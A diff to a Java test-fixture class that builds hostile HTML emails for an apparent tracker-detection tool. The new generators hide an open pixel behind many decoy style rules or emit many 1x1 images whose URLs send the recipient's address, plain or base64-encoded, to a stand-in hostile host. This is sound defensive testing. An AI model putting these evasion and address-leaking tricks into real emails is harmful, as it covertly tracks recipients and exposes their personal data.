@@ -181,7 +181,7 @@ public final class HostileMessages {
 
     /**
      * {@code count} {@code Received} fields before From, To, Subject, Date and Message-ID, as a hostile sender or a
-     * long relay chain writes them, then an HTML body whose open pixel carries the recipient's address (issue 17:
+     * long relay chain writes them, then an HTML body whose open pixel carries the recipient's address (hostile test F4:
      * past the header-count limit, From, To and Date used to be dropped).
      */
     public static byte[] paddedHeaders(int count) {
@@ -195,6 +195,36 @@ public final class HostileMessages {
                 .ascii("<p>Bonjour</p><img src=\"https://pixel.exemple-hostile.org/open.gif?"
                         + "u=camille.durand@example.org\" width=\"1\" height=\"1\">\r\n");
         return o.toByteArray();
+    }
+
+    /**
+     * {@code rules} {@code <style>} blocks, each a rule for a class no element uses with its own background URL (a
+     * client never loads them), then an open pixel carrying the recipient's address: decoys that pushed the pixel past
+     * the detector's scoring cap (hostile test F2).
+     */
+    public static byte[] decoyRulesThenPixel(int rules) {
+        StringBuilder sb = new StringBuilder(rules * 80 + 300).append("<html><head>");
+        for (int i = 0; i < rules; i++) {
+            sb.append("<style>.u").append(i).append("{background:url(https://cdn.exemple-hostile.org/u").append(i)
+                    .append(".png)}</style>\n");
+        }
+        return html(sb.append("</head><body><p>Bonjour</p><img src=\"https://pixel.exemple-hostile.org/o.gif?e=")
+                .append("camille.durand@example.org\" width=\"1\" height=\"1\"></body></html>").toString());
+    }
+
+    /**
+     * {@code pixels} 1x1 images, each its own URL carrying the recipient's address in base64: more trackers than an
+     * analysis lists, whose cleaned copy kept live links to those not listed (hostile test F6).
+     */
+    public static byte[] pixelsWithAddress(int pixels) {
+        String id = java.util.Base64.getEncoder().withoutPadding().encodeToString(
+                "camille.durand@example.org".getBytes(StandardCharsets.US_ASCII));
+        StringBuilder sb = new StringBuilder(pixels * 100 + 100).append("<html><body><p>Bonjour</p>");
+        for (int i = 0; i < pixels; i++) {
+            sb.append("<img src=\"https://pixel.exemple-hostile.org/i").append(i).append(".gif?e=").append(id)
+                    .append("\" width=\"1\" height=\"1\">");
+        }
+        return html(sb.append("</body></html>").toString());
     }
 
     /** An HTML message whose body is {@code html} (8bit, UTF-8), after the usual headers. */
